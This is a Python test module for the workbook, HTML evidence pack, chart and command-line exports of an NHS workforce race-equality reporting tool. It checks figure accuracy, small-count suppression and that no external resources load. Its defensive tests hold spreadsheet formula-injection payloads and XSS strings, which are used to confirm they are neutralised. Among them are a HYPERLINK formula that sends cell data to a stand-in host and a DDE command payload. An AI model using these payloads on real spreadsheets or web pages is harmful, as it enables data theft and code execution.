"""Exports: the WRES workbook, the evidence pack, chart images, action notes and
``wres report``.

The workbook is read back with openpyxl and every figure cell is checked against the results
table (``engine.results``), cell by cell; the pack is parsed with the standard library's
HTML parser and checked for every indicator and year, for any reference to an address off the
machine, and (in publication-safe mode) for any count under the threshold.

About "no address off the machine": the pack embeds plotly.js, whose code holds URL strings
(in comments, licence headers and defaults for features we do not use, such as map tiles).
Those are text inside a script, never fetched by our charts; what a browser *fetches* is
what ``src`` / ``href`` attributes, ``<link>`` elements and CSS ``url(...)`` / ``@import``
name, so those are what the test checks, everywhere in the document.
"""

from __future__ import annotations

import html.parser
import io
import json
import math
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import pandas as pd
import plotly.graph_objects as go
import pytest
from hypothesis import given, settings
from hypothesis import strategies as hs
from openpyxl import load_workbook

from dashboard import images, pack
from wres_app import cli as app_cli
from wres_core import cli
from wres_core.api import Engine, Query
from wres_core.exports import notes as notes_file
from wres_core.exports.notes import Note, NotesError
from wres_core.exports.report import NOT_AVAILABLE, WITHHELD, Report, report_for
from wres_core.exports.workbook import (
    FORMATS,
    RESULTS_FIRST_ROW,
    SHEET_NAMES,
    build_workbook,
    workbook_bytes,
)
from wres_core.schema import RESULT_COLUMNS

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "data" / "sample"
THRESHOLD = 10

pytestmark = pytest.mark.skipif(not (SAMPLE / "workforce_2026.csv").is_file(),
                                reason="the bundled sample is not generated")

NOTES = {1: Note("BME staff are under-represented from Band 8a.", "Mentoring for Band 7."),
         3: Note("Up for a second year.\nTwo departments account for most cases.",
                 "Independent panel for every case.")}


# --- Fixtures -----------------------------------------------------------------------------------
@pytest.fixture(scope="module", autouse=True)
def stop_kaleido_after():
    """Stop kaleido's browser when this module is done, while pytest still manages the
    warning filters (its browser thread saves and restores them, which is not thread-safe:
    stopped at exit instead, it can leave pytest's "error" filters in place)."""
    yield
    images.stop()


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine.from_inputs([SAMPLE])


@pytest.fixture(scope="module")
def safe(engine) -> Report:
    return report_for(engine, Query(suppress=THRESHOLD), org_label="Northfield Valley NHS Trust",
                      notes=NOTES)


@pytest.fixture(scope="module")
def unsafe(engine) -> Report:
    return report_for(engine, Query(suppress=0), org_label="Northfield Valley NHS Trust")


@pytest.fixture(scope="module")
def built_safe(safe):
    built = build_workbook(safe)
    return built, load_workbook(io.BytesIO(built.to_bytes()))


@pytest.fixture(scope="module")
def pack_safe(safe) -> str:
    return pack.pack_html(safe)


def _missing(v) -> bool:
    return v is None or v is pd.NA or (isinstance(v, float) and math.isnan(v))


def _row(table: pd.DataFrame, year, indicator, measure, group, dimension, level) -> pd.Series:
    rows = table[(table["year"] == year) & (table["indicator"] == indicator)
                 & (table["measure"] == measure) & (table["group"] == group)
                 & (table["dimension"] == dimension) & (table["level"] == level)]
    assert len(rows) == 1, (year, indicator, measure, group, dimension, level)
    return rows.iloc[0]


def _check_cell(cell, r: pd.Series, column: str) -> None:
    """A workbook cell shows the results-table cell exactly as the screen does."""
    expected = r[column]
    if not _missing(expected):
        assert cell.data_type == "n", (cell.coordinate, cell.value)
        assert cell.value == pytest.approx(float(expected), rel=1e-12, abs=1e-12), \
            (cell.coordinate, cell.value, expected)
    elif bool(r["suppressed"]):
        assert cell.value == WITHHELD, (cell.coordinate, cell.value)
    else:
        assert cell.value == NOT_AVAILABLE, (cell.coordinate, cell.value)


# --- Workbook -----------------------------------------------------------------------------------
def test_workbook_sheets(built_safe):
    _, wb = built_safe
    # The sample's workforce has an hourly pay, so the pay gap sheet is there.
    assert wb.sheetnames == ["Cover", *SHEET_NAMES.values(), "Pay gap", "Results",
                             "Methodology", "Action notes"]


def test_every_figure_cell_is_the_results_table_cell(built_safe, safe):
    built, wb = built_safe
    wres = safe.wres_table()
    assert len(built.cells) > 500
    seen_indicators = set()
    for (sheet, coord), (year, indicator, measure, group, dimension, level, column) in \
            built.cells.items():
        if sheet == "Pay gap":  # the pay gap's own tables: tests/test_pay.py checks them
            continue
        assert sheet == SHEET_NAMES[indicator]
        r = _row(wres, year, indicator, measure, group, dimension, level)
        _check_cell(wb[sheet][coord], r, column)
        seen_indicators.add(indicator)
    assert seen_indicators == set(range(1, 10))


def test_no_number_in_an_indicator_sheet_that_is_not_a_figure(built_safe):
    """Every number on an indicator sheet is a mapped results-table figure, or a year in a
    header row: nothing is computed by the workbook itself."""
    built, wb = built_safe
    for name in SHEET_NAMES.values():
        ws = wb[name]
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type != "n" or cell.value is None:
                    continue
                if ws.cell(cell.row, 1).value == "WRES year":
                    assert cell.value in (2024, 2025, 2026)
                    continue
                assert (name, cell.coordinate) in built.cells, (name, cell.coordinate,
                                                                cell.value)


def _year_columns(ws, header_row: int) -> dict[int, int]:
    """{year: first column of its block} from a "WRES year" header row."""
    out = {}
    for cell in ws[header_row]:
        if isinstance(cell.value, int) and 2000 < cell.value < 2100:
            out[cell.value] = cell.column
    return out


def _find(ws, text: str, after: int = 1) -> int:
    for row in ws.iter_rows(min_row=after):
        if row[0].value == text:
            return row[0].row
    raise AssertionError(f"{text!r} not found in {ws.title}")


def test_indicator_2_read_by_its_labels(built_safe, safe):
    """Independent of the cell map: find the template's rows by their labels."""
    _, wb = built_safe
    ws = wb["Indicator 2"]
    wres = safe.wres_table()
    title = _find(ws, "Appointment from shortlisting")
    years = _year_columns(ws, title + 1)
    assert sorted(years) == [2024, 2025, 2026]
    rl = next(r[0].row for r in ws.iter_rows(min_row=title) if str(r[0].value).startswith(
        "Relative likelihood of White applicants being appointed"))
    shortlisted = _find(ws, "Shortlisted applicants", title)
    for y, col in years.items():
        _check_cell(ws.cell(rl, col), _row(wres, y, 2, "relative_likelihood", "BME", "overall",
                                           "All"), "value")
        assert ws.cell(rl, col).number_format == FORMATS["ratio"]
        _check_cell(ws.cell(rl + 1, col), _row(wres, y, 2, "relative_likelihood", "BME",
                                               "overall", "All"), "ci_low")
        # White, BME, Unknown shortlisted applicants under their heading.
        for k, g in enumerate(("White", "BME", "Unknown"), start=1):
            cell = ws.cell(shortlisted + k, col)
            _check_cell(cell, _row(wres, y, 2, "likelihood", g, "overall", "All"),
                        "denominator")


def test_indicator_1_read_by_its_labels(built_safe, safe):
    _, wb = built_safe
    ws = wb["Indicator 1"]
    wres = safe.wres_table()
    title = _find(ws, "Non-clinical staff by band")
    years = _year_columns(ws, title + 1)
    headers = [c.value for c in ws[title + 2]]
    band5 = _find(ws, "Band 5", title)
    for y, col in years.items():
        block = headers[col - 1: col - 1 + 7]
        assert block == ["White staff", "BME staff", "Unknown staff", "Total staff",
                         "White %", "BME %", "Unknown %"]
        for k, g in enumerate(("White", "BME", "Unknown")):
            r = _row(wres, y, 1, "share", g, "clinical_pay_band", "Non-clinical: Band 5")
            _check_cell(ws.cell(band5, col + k), r, "numerator")
            _check_cell(ws.cell(band5, col + 4 + k), r, "value")
            if not _missing(r["value"]):
                assert ws.cell(band5, col + 4 + k).number_format == FORMATS["percent"]
    overall = _find(ws, "Overall workforce")
    for y, col in years.items():
        _check_cell(ws.cell(overall, col + 3),
                    _row(wres, y, 1, "share", "White", "overall", "All"), "denominator")
        assert ws.cell(overall, col + 3).number_format == FORMATS["count"]


def test_results_sheet_is_the_results_table(built_safe, safe):
    _, wb = built_safe
    ws = wb["Results"]
    table = safe.table()
    header = [c.value for c in ws[RESULTS_FIRST_ROW]][: len(RESULT_COLUMNS)]
    assert header[0] == "Year" and header[-1] == "Withheld"
    assert ws.max_row == RESULTS_FIRST_ROW + len(table)
    for i, r in enumerate(table.itertuples(index=False), start=RESULTS_FIRST_ROW + 1):
        rec = r._asdict()
        cells = {col: ws.cell(i, j) for j, col in enumerate(RESULT_COLUMNS, start=1)}
        assert cells["year"].value == rec["year"] and cells["indicator"].value == \
            rec["indicator"]
        for col in ("measure", "group", "dimension", "level"):
            assert cells[col].value == rec[col]
        for col in ("numerator", "denominator", "value", "ci_low", "ci_high"):
            v = rec[col]
            if not _missing(v):
                assert cells[col].value == pytest.approx(float(v), rel=1e-12, abs=1e-12)
            elif rec["suppressed"]:
                assert cells[col].value == WITHHELD
            else:
                assert cells[col].value is None
        assert cells["suppressed"].value is bool(rec["suppressed"])
        assert cells["caution"].value is bool(rec["caution"])


def test_no_small_count_in_the_workbook(built_safe):
    """Publication-safe: no count from 1 to threshold - 1 of an ethnic group in any count
    cell (issue 14's policy: an Unknown count, a headcount of everyone, i.e. a share's
    denominator, and the board's counts are not protected)."""
    built, wb = built_safe

    def protected(indicator, measure, group, column) -> bool:
        share = measure in ("share", "board_share", "workforce_share")
        return not (group == "Unknown" or measure == "board_share"
                    or (share and column == "denominator"))

    for (sheet, coord), key in built.cells.items():
        if key[-1] in ("numerator", "denominator") and protected(key[1], key[2], key[3],
                                                                  key[-1]):
            v = wb[sheet][coord].value
            assert not (isinstance(v, (int, float)) and 0 < v < THRESHOLD), (sheet, coord, v)
    ws = wb["Results"]
    for row in ws.iter_rows(min_row=RESULTS_FIRST_ROW + 1, min_col=1, max_col=8):
        for cell, column in ((row[6], "numerator"), (row[7], "denominator")):
            if protected(row[1].value, row[2].value, row[3].value, column):
                assert not (isinstance(cell.value, (int, float)) and 0 < cell.value < THRESHOLD)


def test_cover_says_whether_suppression_is_on(built_safe, unsafe):
    wb = built_safe[1]
    cover = [str(c.value) for row in wb["Cover"].iter_rows() for c in row if c.value]
    assert any("Publication-safe mode is ON" in t for t in cover)
    assert "Northfield Valley NHS Trust" in cover
    for f in ("workforce_2026.csv", "staff_survey_2025.csv", "board.csv"):
        assert f in cover  # the data sources
    assert any("unknown ethnicity" in t.lower() for t in cover)
    off = load_workbook(io.BytesIO(workbook_bytes(unsafe)))
    texts = [str(c.value) for ws in off.worksheets for row in ws.iter_rows() for c in row
             if c.value]
    assert any("NOT FOR PUBLICATION" in t for t in texts)
    assert not any(t == WITHHELD for t in texts)
    # Every sheet says it too, on its third line.
    for name in [*SHEET_NAMES.values(), "Results", "Methodology", "Action notes"]:
        assert "mode is OFF" in off[name]["A3"].value
        assert "mode is ON" in wb[name]["A3"].value


def test_notes_in_the_workbook(built_safe):
    _, wb = built_safe
    ws = wb["Action notes"]
    texts = [c.value for row in ws.iter_rows() for c in row]
    assert NOTES[3].shows in texts and NOTES[1].action in texts
    ind3 = [c.value for row in wb["Indicator 3"].iter_rows(max_row=12) for c in row]
    assert NOTES[3].action in ind3


def _texts(wb) -> list[str]:
    return [str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.value is not None]


def test_methodology_sheet_states_the_policy_with_its_reasons_and_sources(built_safe):
    """Issue 14: the workbook's methodology states the suppression policy in the methodology
    page's own words (disclosure.POLICY_TEXT, one text), reasons and sources included."""
    from wres_core.disclosure import POLICY_TEXT

    texts = [c.value for row in built_safe[1]["Methodology"].iter_rows() for c in row
             if c.value]
    assert POLICY_TEXT and all(p in texts for p in POLICY_TEXT)
    policy = " ".join(POLICY_TEXT)
    for words in ("UK GDPR Article 9", "secondary suppression", "indicator 9",
                  "Government Statistical Service", "unknown"):
        assert words in policy


def test_board_sheet_says_why_its_small_counts_are_shown(built_safe, unsafe):
    from wres_core.disclosure.rules import BOARD_SHOWN_TEXT

    assert BOARD_SHOWN_TEXT in _texts_of(built_safe[1]["Indicator 9"])
    assert not any(BOARD_SHOWN_TEXT in t for ws in built_safe[1].worksheets
                   if ws.title != "Indicator 9" for t in _texts_of(ws))
    off = load_workbook(io.BytesIO(workbook_bytes(unsafe)))
    assert BOARD_SHOWN_TEXT not in _texts_of(off["Indicator 9"])  # nothing is withheld


def _texts_of(ws) -> list[str]:
    return [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]


# Every module that writes an export (the workbook, the evidence pack, the chart images and
# the Export page). None prints the loader's findings today; one that does must pass them
# through the same rule as the data-quality page and ``wres check``.
EXPORT_MODULES = [*sorted((ROOT / "wres_core" / "exports").glob("*.py")),
                  ROOT / "dashboard" / "pack.py", ROOT / "dashboard" / "pack_pay.py",
                  ROOT / "dashboard" / "images.py", ROOT / "pages" / "export.py"]


def test_exports_print_findings_only_through_publication_safe():
    assert all(p.is_file() for p in EXPORT_MODULES) and len(EXPORT_MODULES) >= 9
    for path in EXPORT_MODULES:
        text = path.read_text(encoding="utf-8")
        if re.search(r"\.findings\b", text):
            assert "publication_safe(" in text, path


def test_an_export_gives_back_no_unknown_count_the_table_withholds(tmp_path):
    """By hand (test_cli.BESIDE_A_SMALL_GROUP): 40 White, 3 BME, 12 Unknown staff. The table
    withholds the 3 and the 12 (55 - 40 - 12 = 3); the workbook's unknown-ethnicity caveat
    must not print the 12 or its share (21.8%) in publication-safe mode, and does with
    --suppress 0."""
    from test_cli import BESIDE_A_SMALL_GROUP

    (tmp_path / "workforce_2024.csv").write_text(BESIDE_A_SMALL_GROUP, encoding="utf-8")
    engine = Engine.from_inputs([tmp_path / "workforce_2024.csv"])
    safe = report_for(engine, Query())
    [(year, share, unknown, staff, withheld)] = safe.unknown_shares()
    assert (year, staff, withheld) == (2024, 55, True) and pd.isna(share) and pd.isna(unknown)
    assert "2024: withheld" in safe.unknown_text()
    built = build_workbook(safe)
    wb = load_workbook(io.BytesIO(built.to_bytes()))
    joined = "\n".join(_texts(wb))
    assert "21.8%" not in joined and not re.search(r"\b(12|3) of 55\b", joined)
    counts = [wb[sheet][coord].value for (sheet, coord), key in built.cells.items()
              if key[-1] in ("numerator", "denominator")]
    counts += [c.value for row in wb["Results"].iter_rows(min_row=RESULTS_FIRST_ROW + 1,
                                                          min_col=7, max_col=8) for c in row]
    assert 40 in counts and 55 in counts and not {3, 12} & set(counts)
    full = report_for(engine, Query(suppress=0))
    assert "2024: 21.8%" in full.unknown_text()  # 12 / 55 = 21.82%
    assert "12" in _texts(load_workbook(io.BytesIO(workbook_bytes(full))))


INJECTIONS = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
              "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "#N/A"]


def test_formula_injection_is_neutralised(engine, tmp_path):
    """User text that a spreadsheet would read as a formula stays text: no formula cell
    anywhere (checked in the file's XML too), the text shown as typed, and Excel's quote
    prefix set so that editing the cell keeps it text."""
    report = report_for(engine, Query(suppress=0, where=(("department", (INJECTIONS[6],)),)),
                        org_label=INJECTIONS[0], filters_text=INJECTIONS[1],
                        source_label=INJECTIONS[3],
                        notes={i: Note(INJECTIONS[i % len(INJECTIONS)], INJECTIONS[2])
                               for i in range(1, 10)})
    data = workbook_bytes(report)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode("utf-8"), name
    wb = load_workbook(io.BytesIO(data))
    found = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                v = cell.value
                if isinstance(v, str) and v.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, (ws.title, cell.coordinate, v)
                if isinstance(v, str):
                    found |= {s for s in INJECTIONS if s.replace("\r", "") in v}
    # Every payload is in the workbook, as text (a carriage return is kept as typed).
    assert {INJECTIONS[0], INJECTIONS[1], INJECTIONS[2], INJECTIONS[3]} <= found


def test_workbook_when_data_is_partial(tmp_path):
    """Only a workforce file: the other indicator sheets say what to load."""
    folder = tmp_path / "wf"
    folder.mkdir()
    (folder / "workforce_2026.csv").write_bytes((SAMPLE / "workforce_2026.csv").read_bytes())
    report = report_for(Engine.from_inputs([folder]), Query(suppress=0))
    wb = load_workbook(io.BytesIO(workbook_bytes(report)))
    texts = [str(c.value) for row in wb["Indicator 2"].iter_rows() for c in row if c.value]
    assert any(t.startswith("No figures: load a recruitment file") for t in texts)
    assert wb["Indicator 1"].max_row > 40


# --- Action notes --------------------------------------------------------------------------
def test_notes_round_trip():
    notes = {1: Note("Ünïcode – “quotes” <b>&</b>", "=1+1\nsecond line"), 9: Note("", "x")}
    assert notes_file.load(notes_file.dump(notes)) == notes
    parsed = json.loads(notes_file.dump(notes))
    assert parsed == {"1": {"shows": "Ünïcode – “quotes” <b>&</b>",
                            "action": "=1+1\nsecond line"},
                      "9": {"shows": "", "action": "x"}}


@settings(max_examples=60, deadline=None)
@given(hs.dictionaries(hs.integers(1, 9),
                       hs.tuples(hs.text(max_size=200), hs.text(max_size=200)), max_size=9))
def test_notes_round_trip_any_text(raw):
    notes = notes_file.normalise({i: {"shows": s, "action": a} for i, (s, a) in raw.items()})
    assert notes_file.load(notes_file.dump(notes)) == notes
    for n in notes.values():
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", n.shows + n.action)


@pytest.mark.parametrize("data, words", [
    (b"not json", "not valid JSON"),
    (b"[1, 2]", "one object keyed by indicator"),
    (b'{"0": {"shows": "x"}}', "only indicators 1 to 9"),
    (b'{"x": {"shows": "x"}}', "only indicators 1 to 9"),
    (b'{"1": {"shows": 3}}', "is not text"),
    (b'{"1": {"author": "me"}}', "only 'shows' and 'action'"),
    (b'{"1": "text"}', "are not of the form"),
    (b"\xff\xfe\x00", "not text"),
    (b'{"1": {"shows": "' + b"x" * (notes_file.MAX_CHARS + 1) + b'"}}', "longer than"),
    (b" " * (notes_file.MAX_BYTES + 1), "at most"),
])
def test_notes_refused_with_a_plain_message(data, words):
    with pytest.raises(NotesError, match=re.escape(words)):
        notes_file.load(data)


def test_notes_tolerate_a_byte_order_mark_and_clean_control_characters():
    loaded = notes_file.load("\ufeff" + json.dumps({"2": {"shows": "a\x00b\r\nc",
                                                          "action": None}}))
    assert loaded == {2: Note("ab\nc", "")}


# --- Evidence pack -------------------------------------------------------------------------
class _Parsed(html.parser.HTMLParser):
    """Every tag with its attributes, the style text, the script texts, and the table
    cells with their ``data-col``."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.styles: list[str] = []
        self.scripts: list[str] = []
        self.cells: list[tuple[str, str]] = []
        self.headings: list[str] = []
        self.ths: list[str] = []
        self._in: list[str] = []
        self._col = ""
        self._text: list[str] = []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        self.tags.append((tag, a))
        if tag in ("style", "script", "td", "th", "h2"):
            self._in.append(tag)
            self._text = []
            self._col = a.get("data-col", "")

    def handle_endtag(self, tag):
        if self._in and self._in[-1] == tag:
            self._in.pop()
            text = "".join(self._text)
            if tag == "style":
                self.styles.append(text)
            elif tag == "script":
                self.scripts.append(text)
            elif tag == "td":
                self.cells.append((self._col, text))
            elif tag == "th":
                self.ths.append(text)
            elif tag == "h2":
                self.headings.append(text)

    def handle_data(self, data):
        if self._in:
            self._text.append(data)


def _parse(text: str) -> _Parsed:
    p = _Parsed()
    p.feed(text)
    p.close()
    return p


OFF_MACHINE = re.compile(r"^\s*(?:[a-z][a-z0-9+.-]*:)?//", re.I)


def test_pack_refers_to_nothing_off_the_machine(pack_safe):
    p = _parse(pack_safe)
    for tag, attrs in p.tags:
        for name in ("src", "href", "srcset", "data", "poster", "action", "formaction"):
            v = attrs.get(name)
            if v is not None:
                assert not OFF_MACHINE.match(v), (tag, name, v)
                assert not v.lower().startswith(("http:", "https:", "ftp:")), (tag, name, v)
        assert tag not in ("link", "iframe", "object", "embed", "base"), tag
        if tag == "script":
            assert "src" not in attrs, attrs  # every script is inline
        if tag == "meta" and attrs.get("http-equiv", "").lower() == "refresh":
            raise AssertionError("meta refresh")
    for css in p.styles:
        assert "@import" not in css
        for url in re.findall(r"url\(([^)]*)\)", css):
            assert not OFF_MACHINE.match(url.strip("'\" ")), url
    # Plotly's own HTML: no MathJax, no CDN loader; plotly.js embedded exactly once.
    ours = "".join(s for s in p.scripts if len(s) < 100_000)  # all but plotly.js itself
    assert "cdn.plot.ly" not in ours and "cdnjs" not in ours
    assert not re.search(r"mathjax[\w./-]*\.js", ours, re.I)  # no MathJax loader
    big = [s for s in p.scripts if len(s) > 1_000_000]
    assert len(big) == 1 and "plotly" in big[0][:2000].lower()
    assert sum(1 for s in p.scripts if "Plotly.newPlot" in s) >= 15


def test_pack_names_every_indicator_and_year(pack_safe, safe):
    p = _parse(pack_safe)
    for i in range(1, 10):
        assert any(h.startswith(f"Indicator {i}:") for h in p.headings), i
    for y in safe.years:
        assert str(y) in p.ths  # the overview's year columns
    assert "Overview" in p.headings and "Caveats" in p.headings
    assert "Publication-safe mode is ON" in pack_safe
    assert NOTES[3].action in pack_safe and "Two departments account" in pack_safe


def _ints(text: str) -> list[int]:
    return [int(n.replace(",", "")) for n in re.findall(r"\d[\d,]*", text)]


def test_pack_shows_no_count_under_the_threshold(pack_safe, safe):
    """Every count cell of every table, and every "k of n" the charts print, is 0, at least
    the threshold, or a small count the policy does not protect (issue 14: an Unknown
    count, a headcount of everyone, the board's) that the results table shows as such.
    (The pack's text has no group beside each number; the workbook test checks each cell
    against its own row.)"""
    # The tables the pack draws from: the overall one and, since the pack carries the
    # pages' department charts, the department drill-down of the same filters.
    allowed = set()
    for t in (safe.wres_table(),
              safe.engine.results(replace(safe.query, groups="wres", by="department"))):
        share = t["measure"].isin(["share", "board_share", "workforce_share"])
        free = pd.concat([t.loc[t["group"].eq("Unknown") | t["measure"].eq("board_share"),
                                ["numerator", "denominator"]].stack(),
                          t.loc[share, "denominator"]]).dropna()
        allowed |= {int(v) for v in free if 0 < v < THRESHOLD}
    p = _parse(pack_safe)
    counted = 0
    for col, text in p.cells:
        if col in ("Numerator", "Denominator", "Staff") or col.endswith(" staff"):
            for n in _ints(text):
                counted += 1
                assert n == 0 or n >= THRESHOLD or n in allowed, (col, text)
    assert counted > 100
    charts_json = "".join(s for s in p.scripts if "Plotly.newPlot" in s and len(s) < 1_000_000)
    # People's counts, not a footnote's count of departments ("2 of 25 departments have
    # their BME share withheld").
    for k, n in re.findall(r"(\d[\d,]*) of (\d[\d,]*)(?![\d,]| departments)", charts_json):
        for v in (int(k.replace(",", "")), int(n.replace(",", ""))):
            assert v == 0 or v >= THRESHOLD or v in allowed, (k, n)


def test_pack_figures_are_the_results_table(safe):
    """Each chart's figures table is the screen's figures table of the chart's rows, and
    the rows are results-table rows (no figure computed by the pack): the overall table's
    or, for the department charts the pages show, the department table's."""
    key = ["year", "indicator", "measure", "group", "dimension", "level"]
    wres = pd.concat([safe.wres_table(), safe.table(by="department")],
                     ignore_index=True).drop_duplicates(subset=key)
    merged_rows = 0
    for chart in pack.charts_for(safe):
        if chart.rows is None:
            continue
        rows = chart.rows.drop(columns=[c for c in chart.rows.columns if c.startswith("_")])
        m = rows.merge(wres, on=key, suffixes=("", "_t"))
        assert len(m) == len(rows), chart.filename
        for col in ("value", "numerator", "denominator"):
            same = (m[col].isna() & m[f"{col}_t"].isna()) | (m[col] == m[f"{col}_t"])
            assert bool(same.fillna(False).all()), (chart.filename, col)
        merged_rows += len(m)
    assert merged_rows > 100


def test_pack_escapes_user_text(engine):
    evil = '<script>alert("x")</script>'
    report = report_for(engine, Query(suppress=0, where=(("department", (evil,)),)),
                        org_label='A&E <b>Trust</b>', filters_text=f"department {evil}",
                        notes={2: Note('<img src=x onerror="alert(1)">', evil)})
    text = pack.pack_html(report)
    assert evil not in text and "<img" not in text and "<b>Trust" not in text
    assert "&lt;script&gt;" in text and "A&amp;E &lt;b&gt;Trust&lt;/b&gt;" in text
    p = _parse(text)
    assert not [a for t, a in p.tags if t == "img"]
    assert all("src" not in a for t, a in p.tags if t == "script")


def test_pack_unsafe_says_so(unsafe):
    text = pack.pack_html(unsafe)
    assert "NOT FOR PUBLICATION" in text and 'class="status unsafe"' in text


def test_pack_compact_table_doctest_shape():
    t = pd.DataFrame({"Year": ["2026"] * 2, "Group": ["White", "BME"], "Figure": ["1", "2"],
                      "Note": ["withheld: x", "small numbers: y; of which row"]})
    table, said = pack.compact(t)
    assert list(table.columns) == ["Group", "Figure", "Note"] and said == "Year: 2026"
    assert table["Note"].tolist() == ["", "of which row"]


# --- Chart images -------------------------------------------------------------------------------
def test_images_say_why_when_no_browser(monkeypatch):
    monkeypatch.setattr(images, "_browser", lambda: None)
    ok, why = images.available()
    assert not ok and "Chromium" in why
    png, why2 = images.png_bytes(go.Figure())
    assert png is None and why2 == why


needs_kaleido = pytest.mark.skipif(not images.available()[0],
                                   reason="kaleido or Chromium is not available here")


@needs_kaleido
def test_charts_zip(engine):
    report = report_for(engine, Query(suppress=0), years=(2026,))
    data, why = images.charts_zip(report, width=800, scale=1)
    assert why == "" and data
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = z.namelist()
        assert "README.txt" in names
        pngs = [n for n in names if n.endswith(".png")]
        # Every chart of the pages (the department charts too) and the pay gap's.
        drawn = [c for c in pack.all_charts(report) if not c.message]
        assert len(pngs) == len(drawn) >= 20
        assert any("indicator-1-by-department" in n for n in pngs)
        assert any("indicator-2-by-department" in n for n in pngs)
        assert any(n.endswith("pay-gap-by-band-2026.png") for n in pngs)
        assert re.fullmatch(r"\d\d-wres-[a-z0-9-]+-2026\.png", pngs[0])
        for n in pngs:
            assert z.read(n)[:8] == b"\x89PNG\r\n\x1a\n"
        assert "Publication-safe mode is OFF" in z.read("README.txt").decode()


# --- Command line -------------------------------------------------------------------------------
def test_cli_report_workbook(tmp_path, capsys):
    notes_path = tmp_path / "notes.json"
    notes_path.write_bytes(notes_file.dump(NOTES))
    out = tmp_path / "out" / "wres.xlsx"
    code = cli.main(["report", str(SAMPLE), "--out", str(out), "--notes", str(notes_path),
                     "--org", "Northfield Valley NHS Trust", "--year", "2025", "--year",
                     "2026"])
    assert code == cli.EXIT_OK, capsys.readouterr().err
    wb = load_workbook(out)
    assert "Indicator 9" in wb.sheetnames
    assert NOTES[1].shows in [c.value for row in wb["Action notes"].iter_rows() for c in row]
    years = {c.value for c in wb["Results"]["A"][RESULTS_FIRST_ROW:]}
    assert years == {2025, 2026}
    assert "wrote" in capsys.readouterr().err


def test_cli_report_pack(tmp_path, capsys):
    """The installed command (wres_app.cli) writes the pack; the core's own command line,
    which imports no plotting code, says so plainly."""
    out = tmp_path / "pack.html"
    args = ["report", str(SAMPLE), "--out", str(out), "--suppress", "0",
            "--where", "clinical=Clinical"]
    assert cli.main(args) == cli.EXIT_USAGE
    assert "needs the installed 'wres' command" in capsys.readouterr().err
    assert not out.exists()
    code = app_cli.main(args)
    assert code == cli.EXIT_OK, capsys.readouterr().err
    text = out.read_text(encoding="utf-8")
    assert text.startswith("<!DOCTYPE html>") and "NOT FOR PUBLICATION" in text
    assert "clinical Clinical" in text


@pytest.mark.parametrize("args, words", [
    (["--out", "x.pdf"], "must end in .xlsx"),
    (["--out", "x.xlsx", "--where", "nonsense"], "is not COLUMN=VALUE"),
    (["--out", "x.xlsx", "--year", "1999"], "--year 1999 is not loaded"),
    (["--out", "x.xlsx", "--notes", "missing.json"], "cannot use the notes file"),
])
def test_cli_report_usage_errors(tmp_path, capsys, monkeypatch, args, words):
    monkeypatch.chdir(tmp_path)
    assert cli.main(["report", str(SAMPLE), *args]) == cli.EXIT_USAGE
    assert words in capsys.readouterr().err
    assert not (tmp_path / "x.xlsx").exists()
